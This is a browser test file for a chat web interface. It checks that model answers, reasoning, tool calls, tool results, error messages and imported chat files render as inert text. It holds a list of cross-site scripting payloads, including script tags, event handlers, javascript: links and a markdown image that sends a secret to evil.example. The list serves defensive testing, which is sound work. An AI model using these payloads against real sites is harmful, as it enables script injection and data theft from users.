import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { usePages } from './support/browser.ts';
import { ask } from './support/chat-page.ts';
import { answerWith } from './support/fake-answers.ts';
import { useServer } from './support/server.ts';

const url = useServer();
const open = usePages();

const HOSTILE = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 2">',
  '<svg onload="window.hacked = 3"><a xlink:href="javascript:window.hacked = 4">x</a></svg>',
  '<iframe srcdoc="<script>parent.hacked = 5</script>"></iframe>',
  '<style>body { display: none }</style><p style="position: fixed">x</p>',
  '[click](javascript:window.hacked=6) [and](data:text/html,<script>1</script>) [or](vbscript:x)',
  '![secret](https://evil.example/steal?q=secret "x") ![y](//evil.example/y)',
  '<https://evil.example/auto> <javascript:window.hacked=7>',
  '[ref]: javascript:window.hacked=8\n\n[ref]',
  '```html\n<script>window.hacked = 9</script>\n```',
  '```"><img/src=x/onerror=window.hacked=10>\ncode\n```',
  '| <img src=x onerror=window.hacked=11> |\n| --- |\n| <b onclick=window.hacked=12>x</b> |',
  '- [x] <form action="https://evil.example"><input name=q></form>',
  '&lt;script&gt;window.hacked = 13&lt;/script&gt;',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=14>',
].join('\n\n');

const CALL = {
  tool_calls: [
    {
      index: 0,
      id: '"><script>window.hacked = 20</script>',
      function: {
        name: '<img src=x onerror=window.hacked=21>',
        arguments: JSON.stringify(HOSTILE),
      },
    },
  ],
};

/** Everything that is asked of anybody but the server. */
function watchOthers(page: Page): string[] {
  const asked: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== new URL(url()).origin) asked.push(request.url());
  });
  return asked;
}

async function expectInert(page: Page, others: readonly string[]): Promise<void> {
  const found = await page.evaluate(() => {
    for (const link of document.querySelectorAll('.conversation a')) {
      // As somebody would who trusts it.
      if (!link.getAttribute('href')?.startsWith('http')) (link as HTMLElement).click();
    }
    return {
      hacked: (window as unknown as { hacked?: unknown }).hacked ?? null,
      elements: document.querySelectorAll(
        'main script, main img, main iframe, main style, main form[action], main [onclick], main [style*=fixed], main math [href], main svg a',
      ).length,
      links: [...document.querySelectorAll('.conversation a')].map((link) =>
        link.getAttribute('href'),
      ),
    };
  });
  expect(found).toMatchObject({ hacked: null, elements: 0 });
  for (const href of found.links) expect(href).toMatch(/^https?:/);
  expect(others).toEqual([]);
}

test('what a model says stays text', async () => {
  const page = await open(url());
  const others = watchOthers(page);
  await answerWith(page, {
    deltas: [{ reasoning_content: HOSTILE }, ...Array.from(HOSTILE, (content) => ({ content }))],
  });
  await ask(page, HOSTILE);
  await page.locator('.reasoning summary').click();
  const text = await page.locator('.answer > .markdown').innerText();
  expect(text).toContain('<script>window.hacked = 1</script>');
  expect(text).toContain('<script>window.hacked = 13</script>');
  await expectInert(page, others);
});

test('so do calls, their results and errors', async () => {
  const page = await open(url());
  const others = watchOthers(page);
  const bodies = await answerWith(
    page,
    { deltas: [CALL], finish: 'tool_calls' },
    { deltas: [{ content: 'Done.' }] },
  );
  await ask(page, 'Call it.');
  await page.getByLabel('Result').fill(HOSTILE);
  await page.getByRole('button', { name: 'Send the result' }).click();
  await page.getByText('Done.').waitFor();
  expect(bodies[1]?.['messages']).toMatchObject([
    { role: 'user' },
    { role: 'assistant', tool_calls: [{ id: CALL.tool_calls[0]?.id }] },
    { role: 'tool', content: HOSTILE, tool_call_id: CALL.tool_calls[0]?.id },
  ]);
  await expectInert(page, others);
  await page.unroute('**/v1/chat/completions');
  await page.route('**/v1/chat/completions', (route) =>
    route.fulfill({ status: 400, json: { error: { message: HOSTILE } } }),
  );
  await ask(page, 'Again');
  await page.locator('.answer-error').waitFor();
  await expectInert(page, others);
});

test('and so do files of chats, names of models and tokens', async () => {
  const page = await open(url());
  const others = watchOthers(page);
  await page.route('**/v1/models', (route) =>
    route.fulfill({
      json: { data: [{ id: HOSTILE, status: { value: 'failed', reason: HOSTILE } }] },
    }),
  );
  await page.reload();
  const file = {
    format: 'chairlift-chats',
    version: 1,
    chats: [
      {
        chat: { title: HOSTILE, settings: { system: HOSTILE } },
        messages: [
          { id: 'q', parentId: null, role: 'user', createdAt: 1, content: HOSTILE },
          {
            id: 'a',
            parentId: 'q',
            role: 'assistant',
            createdAt: 2,
            content: HOSTILE,
            model: HOSTILE,
            schema: '',
            tokens: [{ token: HOSTILE, bytes: [...Buffer.from(HOSTILE)], logprob: -1, top: [] }],
          },
        ],
      },
    ],
  };
  await page.getByRole('button', { name: 'More' }).click();
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('menuitem', { name: 'Import JSON' }).click();
  const buffer = Buffer.from(JSON.stringify(file));
  await (await chooser).setFiles({ name: 'x.json', mimeType: 'application/json', buffer });
  await page.getByRole('button', { name: 'Tokens' }).click();
  await page.locator('.token').first().hover();
  await expectInert(page, others);
});

test('thoughts are folded, and told by their time', async () => {
  const page = await open(url());
  await answerWith(page, {
    deltas: [{ reasoning_content: 'Let me think.' }, { content: 'It is 7.' }],
  });
  await ask(page, 'What is it?');
  const thought = page.locator('.reasoning');
  expect(await thought.getAttribute('open')).toBe(null);
  expect(await thought.locator('summary').innerText()).toMatch(/^Thought for \d/);
  await thought.locator('summary').click();
  expect(await thought.innerText()).toContain('Let me think.');
});
